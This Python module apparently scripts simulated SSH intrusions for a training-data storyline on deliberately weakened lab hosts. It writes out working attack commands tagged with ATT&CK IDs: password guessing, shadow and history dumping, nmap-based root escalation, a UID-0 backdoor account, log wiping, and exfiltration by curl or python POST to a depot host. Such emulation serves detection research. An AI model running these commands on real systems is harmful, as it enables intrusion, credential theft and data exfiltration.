"""A guessed password, then only what the machine itself offers: the intruder passes for one of the administrators."""

from __future__ import annotations

from typing import TYPE_CHECKING

import plot
from pages import key_pair
from plot import Storyline
from storylines._walk import walk

if TYPE_CHECKING:
    from intruder import Intruder, Shell

MIDDLE = (3.5, 24.0, 9.0)  # seconds between two acts, by variant
CLERK = ("lbergman", "Autumn2025")
PROBE = ("netprobe", "netprobe1")
FLEET = ("fleetops", "Tangent-Loom-52")

WEAKEN = r"""
set -e
command -v sshpass >/dev/null || apt-get install -y --no-install-recommends sshpass
id lbergman >/dev/null 2>&1 || useradd -m -u 1391 -s /bin/bash -c 'Lena Bergman' lbergman
id netprobe >/dev/null 2>&1 || useradd -m -u 1392 -s /bin/bash -c 'network probe' netprobe
printf 'lbergman:Autumn2025\nnetprobe:netprobe1\n' | chpasswd
usermod -aG sudo,adm lbergman
printf 'netprobe ALL=(root) NOPASSWD: /usr/bin/nmap\n' > /etc/sudoers.d/netprobe
chmod 440 /etc/sudoers.d/netprobe
cat > /usr/local/etc/fleet.conf <<'EOF'
# account for the hourly look at the builders
FLEET_USER=fleetops
FLEET_PASSWORD=Tangent-Loom-52
FLEET_HOSTS="forge-02"
EOF
chmod 640 /usr/local/etc/fleet.conf
cat > /usr/local/sbin/fleet-look <<'EOF'
#!/bin/sh
. /usr/local/etc/fleet.conf
for host in $FLEET_HOSTS; do
    SSHPASS=$FLEET_PASSWORD sshpass -e ssh -o StrictHostKeyChecking=no -o ConnectTimeout=5 "$FLEET_USER@$host" \
        'uptime; df -h / | tail -1; sudo -n ss -tln | wc -l' >> /var/log/fleet-look.log 2>&1
done
EOF
cat > /usr/local/bin/probe-net <<'EOF'
#!/bin/sh
sudo -n nmap -sn -n --max-retries 1 10.20.7.1-14 > "$HOME/up.txt"
grep -c 'Host is up' "$HOME/up.txt" >> "$HOME/up.count"
EOF
chmod 755 /usr/local/sbin/fleet-look /usr/local/bin/probe-net
cat > /etc/cron.d/fleet <<'EOF'
PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin
*/6 * * * * root /usr/local/sbin/fleet-look
*/5 * * * * netprobe /usr/local/bin/probe-net
*/7 * * * * lbergman w > ~/w.txt; last -n 20 >> ~/w.txt
EOF
cat > /home/lbergman/.bash_history <<'EOF'
sudo apt list --upgradable
ssh fleetops@forge-02
sudo less /usr/local/etc/fleet.conf
scp fleetops@forge-02:/srv/keepsake/index.txt .
df -h
EOF
chown lbergman:lbergman /home/lbergman/.bash_history
chmod 600 /home/lbergman/.bash_history
"""

SECOND_WEAKEN = r"""
set -e
id fleetops >/dev/null 2>&1 || useradd -m -u 1191 -s /bin/bash -c 'fleet look' fleetops
printf 'fleetops:Tangent-Loom-52\n' | chpasswd
printf 'fleetops ALL=(root) NOPASSWD: ALL\n' > /etc/sudoers.d/fleetops
chmod 440 /etc/sudoers.d/fleetops
install -d -m 750 /srv/keepsake /srv/keepsake/designs /srv/keepsake/minutes
for n in $(seq 1 24); do
    printf 'Design %03d\nRevision %d\nMade-up part list: %d screws, %d plates\n' "$n" "$((n % 5))" "$((n * 9))" "$n" \
        > "/srv/keepsake/designs/part-$n.txt"
    printf 'Minutes %02d\nPresent: A, B, C\nDecided: order %d sheets\n' "$n" "$((n * 3))" \
        > "/srv/keepsake/minutes/week-$n.txt"
done
ls -R /srv/keepsake > /srv/keepsake/index.txt
printf '*/9 * * * * root tar -C /srv -czf /var/backups/keepsake.tgz keepsake\n' > /etc/cron.d/keepsake
"""

# Many guesses on several names, then shadow, histories and a straight way to the second host.
HURRIED = r"""
== discovery | TA0007 | Rights, people, neighbours and what the administrators did last.
T1562.003 unset HISTFILE
T1033 id; hostname; w
T1069.001 sudo -l
T1087.001 cat /etc/passwd | cut -d: -f1,3,7 | tail -n 15
T1018 cat /etc/hosts; ip neigh; ip -br addr
T1049 ss -tnp; ss -tlnp
T1552.003 cat ~/.bash_history
? T1083 ls -la ~/.ssh /home
? T1069.001 sudo cat /etc/sudoers.d/*
== credential access | TA0006 | As root: password hashes, histories of all, and a password in settings.
T1003.008 sudo cat /etc/shadow > /tmp/.s1; wc -l /tmp/.s1
T1552.003 sudo sh -c 'cat /home/*/.bash_history /root/.bash_history' | grep -E 'ssh|scp|pass' | sort -u
T1552.001 sudo grep -rE 'PASSWORD|TOKEN' /usr/local/etc /etc/cron.d /opt 2>/dev/null
T1552.004 sudo find / -xdev -name 'id_*' -not -name '*.pub' 2>/dev/null
? T1552.004 sudo cp -r /root/.ssh /tmp/.s2; sudo chown -R $(id -u) /tmp/.s2; ls /tmp/.s2
"""
HURRIED_SECOND = r"""
T1562.003 unset HISTFILE; id; uname -n
T1083 sudo ls -la /srv /home /var/backups
T1003.008 sudo cat /etc/shadow | grep -F '$' | cut -c1-40
? T1082 cat /etc/os-release | head -n 2; nproc
== collection | TA0009 | Designs and minutes are packed and copied to the first host.
T1560.001 sudo tar -C /srv -czf {pack} keepsake; ls -l {pack}
T1222.002 sudo chown fleetops {pack}; md5sum {pack}
T1021.004 exit
"""
HURRIED_OUT = r"""
T1074.002 scp fleetops@{where}:{pack} /tmp/
== exfiltration | TA0010 | From the first host the archive and the hashes go out over HTTP.
"""
HURRIED_END = r"""
T1048.003 curl -s -F d=@{pack} -F s=@/tmp/.s1 {depot}/in
T1070.004 rm -rf {pack} /tmp/.s1 /tmp/.s2
T1070.002 sudo truncate -s 0 /var/log/btmp; sudo sed -i /lbergman/d /var/log/auth.log
T1078.003 exit
"""

# Few guesses on a real administrator; slow, quiet, each command one that the person might give.
QUIET = r"""
T1033 w
T1033 last -n 6
T1082 uptime; free -h
T1552.003 history | tail -n 25
== discovery | TA0007 | The host, its jobs and the fleet behind it, with an administrator's commands.
T1083 ls -l /usr/local/sbin /usr/local/etc /etc/cron.d
T1654 sudo tail -n 20 /var/log/auth.log
T1018 getent hosts forge-02 ledger-03 web-05
T1083 cat /usr/local/sbin/fleet-look
T1552.001 sudo cat /usr/local/etc/fleet.conf
? T1018 ping -c 1 -W 1 forge-02
? T1003.008 sudo getent shadow root lbergman
== persistence | TA0003 | A second key beside the person's own, named like the first.
T1083 cat ~/.ssh/authorized_keys
T1098.004 echo '{public}' >> ~/.ssh/authorized_keys
T1083 ls -l --time-style=full-iso ~/.ssh
T1070.006 touch -r ~/.bashrc ~/.ssh/authorized_keys
"""
QUIET_SECOND = r"""
T1082 uptime; df -h /
T1083 sudo ls -lt /srv /var/backups | head -n 20
? T1083 sudo du -sh /srv/* 2>/dev/null
== collection | TA0009 | The index is read, and the folder packed under the name of an old index.
T1005 sudo cat /srv/keepsake/index.txt | head -n 30
? T1213.003 git -C /srv log --oneline | head -n 3
T1074.001 sudo tar -C /srv -czf {pack} keepsake
T1222.002 sudo chown fleetops {pack}; ls -lh
T1021.004 exit
"""
QUIET_OUT = r"""
T1074.002 scp fleetops@{where}:{pack} .{pack}
== exfiltration | TA0010 | What was copied to the first host is read out over the intruder's own session.
"""
QUIET_END = r"""
T1083 lss -la; ls -la
T1078.003 exit
"""
QUIET_AGAIN = r"""
T1048.002 base64 -w 76 .{pack}
T1070.004 rm .{pack}; ls
T1070.007 ssh-keygen -R forge-02
T1078.003 exit
"""

# A service account with a password like its name; nmap gives root, a listener and old hashes the rest.
PROBING = r"""
== discovery | TA0007 | The probe's own tool shows the neighbours and their open doors.
T1069.001 sudo -l; id
T1018 cat up.txt | head -n 20
T1046 nmap -n -Pn --open -p 22,80,443,3306,5432,6379,8080 10.20.7.2-5
T1046 for p in 22 25 111 2049; do (exec 3<>/dev/tcp/forge-02/$p) 2>/dev/null && echo open $p; done
? T1083 cat /etc/ssh/sshd_config | grep -v '^#' | grep .
? T1201 grep -E 'ENCRYPT_METHOD|PASS_' /etc/login.defs
== privilege escalation | TA0004 | nmap may be run as root and runs scripts.
T1059.011 echo 'os.execute("/bin/bash")' > {script}
T1548.003 sudo nmap --script {script}
T1033 stty sane; id
T1070.004 rm {script}; cd /root
== credential access | TA0006 | Hashes are tried against a short list on the host; traffic is listened to.
T1003.008 awk -F: '$2 ~ /^\$/ {print $1, substr($2,1,3)}' /etc/shadow
T1110.002 perl -e 'open F,"/etc/shadow";while(<F>){($u,$h)=split/:/;next if length($h)<9;\
for $w(qw(autumn2025 Autumn2025 letmein)){print"$u $w\n" if crypt($w,$h) eq $h}}'
T1040 timeout 8 tcpdump -i any -c 20 -nn -A 'port 21 or port 80 or port 5432' 2>&1 | tail -n 15
T1552.001 cd /usr/local; find . -name '*.conf' -newer /etc/debian_version | xargs grep -il pass
T1552.001 grep FLEET etc/fleet.conf
? T1654 tail -n 4 /var/log/fleet-look.log
T1027.010 %perl ls -la /home/*/.ssh; cat /home/*/.ssh/known_hosts 2>/dev/null | cut -c1-60
== persistence | TA0003 | A second account with the number of root, and a shell for a system account.
T1098 usermod -s /bin/bash -d /var/lib/gnats gnats 2>/dev/null || usermod -s /bin/bash irc
T1136.001 useradd -o -u 0 -g 0 -M -d /root -s /bin/bash sysmgr; echo sysmgr:Pallet-20 | chpasswd
T1087.001 tail -n 2 /etc/passwd
"""
PROBING_SECOND = r"""
T1069.001 sudo -n -l; groups
T1083 sudo find /srv /home -maxdepth 3 -size +1k -newermt '2024-01-01' -type f 2>/dev/null | head -n 30
T1074.001 mkdir -p /var/tmp/.up && sudo rsync -a /srv/keepsake/designs /var/tmp/.up/
T1560.001 sudo tar cf - -C /var/tmp .up | openssl enc -aes-256-cbc -pbkdf2 -k ledge-12 -out /var/tmp/{pack}
T1070.004 sudo rm -r /var/tmp/.up; ls -la /var/tmp
T1021.004 exit
"""
PROBING_OUT = r"""
== exfiltration | TA0010 | The encrypted archive is fetched through the first host and posted by python.
T1074.002 scp fleetops@{where}:/var/tmp/{pack} /dev/shm/b
"""
PROBING_END = r"""
T1048.003 python3 -c 'import urllib.request as u;u.urlopen("{depot}/p",open("/dev/shm/b","rb").read())'
T1070.004 shred -u /dev/shm/b; history -c
T1059.004 exit
T1078.003 exit
"""
PAGES = (
    (HURRIED, HURRIED_SECOND, HURRIED_OUT, HURRIED_END),
    (QUIET, QUIET_SECOND, QUIET_OUT, QUIET_END),
    (PROBING, PROBING_SECOND, PROBING_OUT, PROBING_END),
)


def colleague(own: Intruder) -> tuple[str, str]:
    """Name and password of somebody who works on the host and may use sudo."""
    spec = plot.all_hosts().get(own.entry.name)
    able = [(one.name, one.password) for one in spec.people if "sudo" in one.groups] if spec else []
    return own.pick(able) if able else CLERK


def guessed(own: Intruder) -> tuple[str, str]:
    """Find a name and its password by guessing, in the manner of this variant."""
    own.step("password guessing", "TA0006", "Passwords are tried over ssh until one fits.")
    if own.variant == 0:
        for name in ("admin", "backup"):
            own.guess(own.entry, name, ["admin", "Summer2025", "changeme"], "T1110.003")
        user, right = CLERK
        tries = ["lbergman", "Welcome1", "Summer2025", "Spring2025", "Winter2025", right]
    elif own.variant == 1:
        user, right = colleague(own)
        stem = right.partition("-")[0]
        tries = [f"{stem}-40", f"{stem}2025", right]
    else:
        for name in ("nagios", "monitor", "zabbix"):
            own.guess(own.entry, name, [name + "1"], "T1110.003")
            own.think(6)
        user, right = PROBE
        tries = [user, "probe", right]
    for attempt in tries:
        if own.guess(own.entry, user, [attempt], "T1110.001"):
            break
        own.think(MIDDLE[own.variant])
    return user, right


def cross(own: Intruder, shell: Shell, where: str) -> None:
    """From the first host to the second, with the password found there."""
    own.step("lateral movement", "TA0008", "The fleet's password, read on the first host, opens the second.")
    shell.type(f"ssh -o StrictHostKeyChecking=accept-new {FLEET[0]}@{where}", "T1021.004", password=FLEET[1])
    own.think(MIDDLE[own.variant])


def play(own: Intruder) -> None:
    middle = MIDDLE[own.variant]
    user, password = guessed(own)
    private, public = key_pair(f"{user}@laptop")
    where = own.second.address if own.variant != 1 else own.pick((own.second.address, own.second.name))
    pack = (f"/tmp/{own.word()}.tar.gz", "old-index.tgz", f".{own.word()}.bin")[own.variant]
    script = f"/tmp/{own.word()}.nse"
    names = {"depot": own.depot, "public": public, "where": where, "pack": pack, "script": script}
    first, second, out, end = PAGES[own.variant]
    own.step("logon", "TA0001", "The intruder logs on with the guessed password.")
    shell = own.ssh(own.entry, user, password=password, technique="T1078.003")
    own.think(middle)
    walk(own, first, shell, names, middle, password)
    cross(own, shell, where)
    walk(own, second, shell, names, middle)
    walk(own, out, shell, names, middle, FLEET[1])
    walk(own, end, shell, names, middle, password)
    shell.close()
    if own.variant == 1:
        own.think(40)
        again = own.ssh(own.entry, user, key=private, technique="T1078.003")
        walk(own, QUIET_AGAIN, again, names, middle)
        again.close()


STORYLINE = Storyline(
    name="borrowed-password",
    split="train",
    words=(
        "Passwords are guessed over ssh until one fits. With it the intruder works on the bastion as an administrator "
        "would, reads hashes, histories and settings, goes on to the builders' host with a password found there, and "
        "carries designs and minutes out by scp and HTTP."
    ),
    weaken=WEAKEN,
    second_weaken=SECOND_WEAKEN,
    two_hosts=True,
    play=play,
    variants=3,
    hosts=("gate-04",),
    second_hosts=("forge-02",),
    minutes=14,
)
